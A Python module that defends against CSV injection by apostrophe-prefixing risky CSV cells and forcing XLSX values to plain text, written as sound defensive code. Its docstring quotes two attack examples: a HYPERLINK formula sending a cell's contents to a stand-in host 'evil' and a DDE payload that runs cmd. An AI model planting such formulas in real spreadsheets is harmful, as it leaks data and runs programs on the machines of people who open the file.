"""Keeping spreadsheet formulas out of every file liaison writes for a spreadsheet.

A ledger is text that people type, and a cell such as `=HYPERLINK("http://evil/?"&C2)`
or `-1+cmd|' /C calc'!A0` is run by Excel, LibreOffice or Sheets when the next person
opens the file (CSV injection). Two rules, one per format:

- **CSV**: a cell that a spreadsheet would evaluate (starting with `=`, `@`, a tab or a
  carriage return, or `+`/`-` other than a plain or masked number such as `-5`,
  `+8613812345678` or `+86 138****5678`)
  is written with a leading apostrophe, as OWASP advises. The importer takes exactly one
  apostrophe off a cell that would need it, so export → import → export stays
  byte-identical. A cell that starts with apostrophes followed by such text gets one more
  (`'=x` is written `''=x`), which keeps that round trip exact for every string.
- **XLSX**: every text is written as a text cell (`t="inlineStr"`), never a formula or
  an error cell (openpyxl makes a formula of any string starting with `=`, and an error
  of `#N/A`), with Excel's quote-prefix flag so that editing the cell keeps it text. A
  person sees the text unchanged and nothing needs undoing on import.

What this does not do: change what a person reading the value sees in XLSX, or touch
jsonl and the terminal tables, which no spreadsheet evaluates.
"""

from __future__ import annotations

import re
from typing import Any

QUOTE = "'"
_ALWAYS = frozenset("=@\t\r")  #: a cell starting with one of these is a formula or a DDE
_SIGNS = frozenset("+-")  #: formulas too, unless the cell is a plain number
#: a sign then only digits, spaces, dots and masking stars (`-5`, `+8613812345678`,
#: `+86 138****5678`): no letter, so it can name no function, cell or program
_PLAIN_NUMBER = re.compile(r"[+-][\d .*]*\d[\d .*]*%?")


def _evaluated(text: str) -> bool:
    if not text:
        return False
    if text[0] in _ALWAYS:
        return True
    return text[0] in _SIGNS and len(text) > 1 and not _PLAIN_NUMBER.fullmatch(text)


def needs_quote(text: str) -> bool:
    """Whether `text` gets a leading apostrophe in CSV (see the module's docstring)."""
    return _evaluated(text.lstrip(QUOTE))


def neutralise(text: str) -> str:
    """`text` as a CSV cell no spreadsheet evaluates."""
    return QUOTE + text if needs_quote(text) else text


def restore(text: str) -> str:
    """The inverse of `neutralise`: the cell as it was before export."""
    if text.startswith(QUOTE) and needs_quote(text[1:]):
        return text[1:]
    return text


def csv_cell(value: object) -> object:
    """A value ready for `csv.writer`: text neutralised, anything else unchanged."""
    return neutralise(value) if isinstance(value, str) else value


def strip_cell(text: str) -> str:
    """A cell's text without surrounding whitespace, except a leading tab or carriage
    return before text that a spreadsheet would evaluate: that character is what kept it
    from being a formula, and stripping it would arm `\\t=1+1` as `=1+1`."""
    stripped = text.strip()
    lead = text[: len(text) - len(text.lstrip())]
    if ("\t" in lead or "\r" in lead) and _evaluated(stripped):
        return text.rstrip()
    return stripped


def xlsx_cell(sheet: Any, value: object) -> object:
    """A value ready for a write-only sheet's `append`: text as a text cell."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if cell.data_type != "s":  # a formula (`=…`) or an error code (`#N/A`) as guessed
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell
